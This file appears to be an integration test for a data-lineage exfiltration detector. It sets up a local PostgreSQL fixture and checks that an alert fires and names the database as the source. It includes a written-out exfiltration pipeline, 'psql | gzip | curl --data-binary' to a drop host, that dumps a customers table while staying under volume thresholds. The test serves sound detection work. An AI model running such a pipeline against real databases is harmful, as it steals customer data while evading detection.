#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# Lineage from a source service: heidi pulls the customer table of a PostgreSQL (its own
# cluster on 127.0.10.2, apart from test_detection's) through psql | gzip | curl, under
# every volume threshold (60,000 rows, about 8 MiB). The bytes psql received from the
# database label it, the pipes carry the label to curl, and the alert names heidi's
# session and the database as the source. Host only, like the other PostgreSQL tests
# (CPU-bound under emulation, nothing kernel-specific beyond test_lineage).
. "$(dirname "$0")/../lib/itest.sh"
PG_ADDR=127.0.10.2
LINEAGE_SERVICE=$PG_ADDR:5432
. "$LIB/pg_fixture.sh"
. "$LIB/lineage_fixture.sh"

pg_start "$T/pg" 60000 || die "postgres"
itest_on_exit "pg_stop $T/pg"

echo "database: heidi runs psql | gzip | curl"
in_session 1108 "$T/heidi.info" bash -c "psql -h $PG_ADDR -U postgres -Atq \
	-c '\\copy (select * from customers) to stdout csv' | gzip -1 |
	curl -sS --data-binary @- http://$DROP/upload -o /dev/null" || die "heidi workload"
H=$(info_session "$T/heidi.info")
wait_alert --session "$H"
check "heidi: derived exfiltration of the database's rows, her own session" \
	"$(derived --user heidi --session "$H" --origin-session "$H" --hand-off false \
		--chain-contains "psql")" 1
check "heidi: the source is the database" \
	"$(alerts count --session "$H" --source "$PG_ADDR:5432")" 1

kill -TERM $DAEMON
wait $DAEMON
check "daemon exit status" "$?" 0
check "nothing else alerted" "$(alerts count) $(derived)" "1 1"
[ "$FAIL" = 0 ] || { echo "alerts:"; cat "$T/alerts.jsonl"; }
itest_finish
